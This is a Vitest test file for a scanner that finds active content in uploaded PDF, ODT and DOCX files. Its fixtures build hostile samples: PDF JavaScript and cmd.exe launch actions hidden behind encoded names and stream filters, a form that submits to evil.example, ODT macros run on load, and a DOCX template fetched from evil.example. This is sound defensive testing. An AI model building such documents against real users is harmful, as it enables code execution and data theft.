import { deflateRawSync, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { activeContent } from './active-content.ts';
import { documentType } from './file-content.ts';
import { docx, odt, pdf, storedZip } from '../../test/fixtures/files.ts';

const encode = (text: string) => new TextEncoder().encode(text);

/** A zip whose entries are deflated, as Word and LibreOffice write them. */
function deflatedZip(entries: { name: string; data: string; stored?: boolean }[]): Uint8Array {
  const le = (v: number, n: number) => Array.from({ length: n }, (_, i) => (v >>> (8 * i)) & 0xff);
  const local: number[] = [];
  const central: number[] = [];
  for (const entry of entries) {
    const name = [...encode(entry.name)];
    const method = entry.stored ? 0 : 8;
    const data = entry.stored ? [...encode(entry.data)] : [...deflateRawSync(encode(entry.data))];
    const offset = local.length;
    local.push(
      0x50,
      0x4b,
      3,
      4,
      ...le(20, 2),
      ...le(0, 2),
      ...le(method, 2),
      ...le(0, 4),
      ...le(0, 4),
      ...le(data.length, 4),
      ...le(entry.data.length, 4),
      ...le(name.length, 2),
      ...le(0, 2),
      ...name,
      ...data,
    );
    central.push(
      0x50,
      0x4b,
      1,
      2,
      ...le(20, 2),
      ...le(20, 2),
      ...le(0, 2),
      ...le(method, 2),
      ...le(0, 4),
      ...le(0, 4),
      ...le(data.length, 4),
      ...le(entry.data.length, 4),
      ...le(name.length, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 2),
      ...le(0, 4),
      ...le(offset, 4),
      ...name,
    );
  }
  return new Uint8Array([...local, ...central, 0x50, 0x4b, 5, 6, ...le(0, 4), ...le(entries.length, 2), ...le(entries.length, 2), ...le(central.length, 4), ...le(local.length, 4), ...le(0, 2)]);
}

/** A PDF whose object 2 sits in an object stream, encoded with `filters` (the data already encoded). */
function pdfWithObjectStream(objectText: string, encode2: (data: Uint8Array) => Uint8Array, filters: string, extra = ''): Uint8Array {
  const header = '2 0 ';
  const content = encode2(encode(`${header}${objectText}`));
  const head = encode(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n3 0 obj << /Type /ObjStm /N 1 /First ${header.length} /Filter ${filters} ${extra} /Length ${content.length} >>\nstream\n`);
  const tail = encode('\nendstream\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n');
  return new Uint8Array([...head, ...content, ...tail]);
}
/** Rows of `columns` bytes, each behind PNG's "Sub" filter byte, as a predictor-12 stream holds them. */
const pngRows = (data: Uint8Array, columns: number) => {
  const out: number[] = [];
  for (let i = 0; i < data.length; i += columns) {
    const row = [...data.subarray(i, i + columns)];
    out.push(1, ...row.map((b, k) => (k === 0 ? b : (b - (row[k - 1] ?? 0)) & 0xff)));
  }
  return new Uint8Array(out);
};
const hex = (data: Uint8Array) => encode(`${Buffer.from(data).toString('hex')}>`);
const ascii85 = (data: Uint8Array) => {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = [...data.subarray(i, i + 4)];
    const n = chunk.length;
    while (chunk.length < 4) chunk.push(0);
    let value = (((chunk[0] ?? 0) << 24) | ((chunk[1] ?? 0) << 16) | ((chunk[2] ?? 0) << 8) | (chunk[3] ?? 0)) >>> 0;
    if (n === 4 && value === 0) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let k = 0; k < 5; k++) {
      digits.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, n + 1).join('');
  }
  return encode(`${out}~>`);
};
const ODF_NS = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"';
const odtWith = (content: string) =>
  deflatedZip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'content.xml', data: content },
  ]);

const rels = (target: string, type: string, external = true) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;

describe('activeContent', () => {
  it.each<[string, Uint8Array, string | null]>([
    ['a plain PDF', pdf(), null],
    ['a PDF that runs JavaScript on opening', pdf('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), 'an action /JavaScript'],
    ['a PDF that launches a program', pdf('<< /Type /Action /S /Launch /F (cmd.exe) >>'), 'an action /Launch'],
    ['a PDF hiding its name as /J#61vaScript', pdf('<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >>'), 'an action /JavaScript'],
    ['a PDF with an embedded file', pdf('<< /Names << /EmbeddedFiles 2 0 R >> >>'), '/EmbeddedFiles'],
    [
      'a PDF whose OpenAction JavaScript sits in a Flate object stream',
      pdfWithObjectStream('<< /S /JavaScript /JS (app.launchURL("x")) >>', (d) => deflateSync(d), '/FlateDecode'),
      'an action /JavaScript',
    ],
    ['… in an /ASCIIHexDecode object stream', pdfWithObjectStream('<< /S /JavaScript /JS (x) >>', hex, '/ASCIIHexDecode'), 'an action /JavaScript'],
    ['… in an /ASCII85Decode object stream', pdfWithObjectStream('<< /S /JavaScript /JS (x) >>', ascii85, '/ASCII85Decode'), 'an action /JavaScript'],
    ['… behind two filters', pdfWithObjectStream('<< /S /JavaScript /JS (x) >>', (d) => hex(deflateSync(d)), '[/ASCIIHexDecode /FlateDecode]'), 'an action /JavaScript'],
    ['… behind a filter no reader of ours knows', pdfWithObjectStream('<< /S /JavaScript /JS (x) >>', (d) => d, '/Crypt'), 'objects that cannot be read'],
    [
      '… with PNG predictors the parser does not apply',
      pdfWithObjectStream('<< /S /JavaScript /JS (x) >>', (d) => deflateSync(pngRows(d, 4)), '/FlateDecode', '/DecodeParms << /Predictor 12 /Columns 4 >>'),
      'objects that cannot be read',
    ],
    ['a PDF whose link opens a web page', pdf('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.linkedin.com/in/marie) >> >>'), null],
    ['a PDF whose page opens with an action that submits a form', pdf('<< /Type /Page /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>'), 'an action run on an event'],
    ['a PDF that resets its form on opening', pdf('<< /Type /Catalog /OpenAction << /S /ResetForm >> >>'), 'an action /ResetForm'],
    [
      'an encrypted PDF',
      encode(
        '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n2 0 obj << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >> endobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R /Encrypt 2 0 R >>\nstartxref\n9\n%%EOF\n',
      ),
      'encryption',
    ],
    ['a PDF whose object cannot be read', pdf('<< /Type /Catalog /Oops ) >>'), 'objects that cannot be read'],
    ['a PDF whose compressed stream is only a page', pdfWithObjectStream('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', (d) => deflateSync(d), '/FlateDecode'), null],
    ['an ODT', odt(), null],
    [
      'an ODT with a Basic macro library',
      storedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text' },
        { name: 'content.xml', data: `<office:document-content ${ODF_NS}/>` },
        { name: 'Basic/Standard/Module1.xml', data: 'Sub Main\nShell("calc")\nEnd Sub' },
      ]),
      'macros',
    ],
    [
      'an ODT whose content runs a macro on opening (deflated)',
      deflatedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        {
          name: 'content.xml',
          data: `<office:document-content ${ODF_NS}><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>`,
        },
      ]),
      'macros run by events',
    ],
    [
      'an ODT whose load event calls a macro under other prefixes',
      odtWith(
        '<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:l="http://www.w3.org/1999/xlink"><o:event-listeners><s:event-listener s:event-name="dom:load" l:href="vnd.sun.star.script:Standard.Module1.Main"/></o:event-listeners></o:document-content>',
      ),
      'macros run by events',
    ],
    [
      'an ODT whose macro address is written with character references',
      odtWith(`<office:document-content ${ODF_NS}><office:text><x:a xmlns:x="urn:x" xlink:href="&#118;nd.sun.star.script:Standard.M.Main"/></office:text></office:document-content>`),
      'macros run by events',
    ],
    ['an ODT whose XML declares entities of its own', odtWith(`<!DOCTYPE d [<!ENTITY e "vnd.sun.star.script:">]><office:document-content ${ODF_NS} x="&e;"/>`), 'XML with a document type'],
    ['an ODT whose XML does not parse', odtWith('<office:document-content><unclosed>'), 'XML that cannot be read'],
    [
      'an ODT hiding a macro in a second content.xml',
      deflatedZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        { name: 'content.xml', data: `<office:document-content ${ODF_NS}/>` },
        { name: 'content.xml', data: `<office:document-content ${ODF_NS}><office:event-listeners/></office:document-content>` },
      ]),
      'macros run by events',
    ],
    ['a DOCX', docx(), null],
    [
      'a DOCX with a hyperlink to a web page',
      storedZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/_rels/document.xml.rels', data: rels('https://www.linkedin.com/in/marie', 'hyperlink') },
      ]),
      null,
    ],
    [
      'a DOCX whose template comes from a stranger’s server (deflated)',
      deflatedZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w:document/>' },
        { name: 'word/_rels/settings.xml.rels', data: rels('https://evil.example/template.dotm', 'attachedTemplate') },
      ]),
      'a template or object fetched from outside',
    ],
  ])('%s', async (_what, bytes, threat) => {
    const type = documentType(bytes);
    expect(type).not.toBeNull();
    expect(await activeContent(bytes, type ?? 'pdf')).toBe(threat);
  });
});

describe('documentType: a PDF is a PDF throughout', () => {
  it.each<[string, string]>([
    ['an HTML page wearing %PDF and %%EOF', '%PDF-1.4\n<html><body><script>fetch("/")</script></body></html>\n%%EOF\n'],
    ['a PDF header and trailer around a web page with objects', '%PDF-1.4\n1 0 obj << >> endobj\n<!DOCTYPE html><html><script>x</script>\nstartxref\n9\n%%EOF\n'],
    ['a PDF without a cross-reference', '%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n'],
  ])('%s is refused', (_what, text) => {
    expect(documentType(encode(text))).toBeNull();
  });
});
